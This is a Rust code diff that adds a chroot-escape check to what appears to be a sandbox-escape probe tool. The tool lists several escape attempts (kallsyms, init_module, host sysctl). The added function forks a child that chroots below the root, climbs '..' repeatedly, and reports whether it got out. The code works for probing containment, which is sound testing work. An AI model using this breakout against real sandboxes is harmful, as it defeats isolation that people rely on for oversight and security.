@@ -43,12 +43,16 @@ fn errno_name(e: i32) -> String {
         libc::EBADF => "EBADF".into(),
         libc::ENOSYS => "ENOSYS".into(),
         libc::EBUSY => "EBUSY".into(),
+        STAYED_IN_ROOT => "stayed-in-the-root".into(),
         other => format!("errno{other}"),
     }
 }
 
+/// Not an errno: what [`chroot_dotdot`] answers when `..` stayed inside the root.
+const STAYED_IN_ROOT: i32 = -1;
+
 /// The answers of a permission check that said no; any other error came after it.
-const REFUSALS: [i32; 3] = [libc::EPERM, libc::EACCES, libc::EROFS];
+const REFUSALS: [i32; 4] = [libc::EPERM, libc::EACCES, libc::EROFS, STAYED_IN_ROOT];
 
 fn report(name: &str, outcome: Result<String, i32>) {
     let line = match outcome {
@@ -188,6 +192,55 @@ fn kallsyms() -> Result<String, i32> {
     }
 }
 
+/// The classic way out of a chroot: chroot into a directory below the root, keeping the
+/// working directory at the root, then `..` as far as it goes. Where the root's mount sits
+/// on a directory of another file system (a root moved over a plain directory instead of
+/// pivoted into), that climbs out into it. In a child, so that our own root stays.
+fn chroot_dotdot() -> Result<String, i32> {
+    use std::os::unix::fs::MetadataExt;
+    let root = fs::metadata("/").map_err(|e| e.raw_os_error().unwrap_or(0))?;
+    let below = "/tmp/.escape-chroot";
+    fs::create_dir_all(below).map_err(|e| e.raw_os_error().unwrap_or(0))?;
+    let dir = c(below);
+    // SAFETY: the probe is single-threaded; the child makes system calls and exits.
+    match unsafe { libc::fork() } {
+        -1 => Err(errno()),
+        0 => {
+            // SAFETY: NUL-terminated paths; the child only changes its own root.
+            let code = unsafe {
+                if libc::chroot(dir.as_ptr()) != 0 {
+                    errno()
+                } else {
+                    for _ in 0..64 {
+                        libc::chdir(c"..".as_ptr());
+                    }
+                    let mut st: libc::stat = std::mem::zeroed();
+                    if libc::stat(c".".as_ptr(), &mut st) != 0 {
+                        errno()
+                    } else if (st.st_dev as u64, st.st_ino as u64) == (root.dev(), root.ino()) {
+                        0
+                    } else {
+                        255
+                    }
+                }
+            };
+            // SAFETY: _exit has no preconditions.
+            unsafe { libc::_exit(code) }
+        }
+        child => {
+            let mut status = 0;
+            // SAFETY: status is writable; child is ours.
+            unsafe { libc::waitpid(child, &mut status, 0) };
+            let _ = fs::remove_dir(below);
+            match libc::WEXITSTATUS(status) {
+                0 => Err(STAYED_IN_ROOT),
+                255 => Ok("climbed out of the root".into()),
+                errno => Err(errno),
+            }
+        }
+    }
+}
+
 /// One way out: Ok(what it got) or Err(errno).
 type Attempt<'a> = Box<dyn Fn() -> Result<String, i32> + 'a>;
 
@@ -219,6 +272,7 @@ fn attempts(only: &[String]) {
         ),
         ("host-sysctl", Box::new(host_sysctl_after_umount)),
         ("kallsyms", Box::new(kallsyms)),
+        ("chroot-dotdot", Box::new(chroot_dotdot)),
         (
             "init_module",
             Box::new(move || syscall(libc::SYS_init_module, [0, 0, e, 0, 0, 0])),
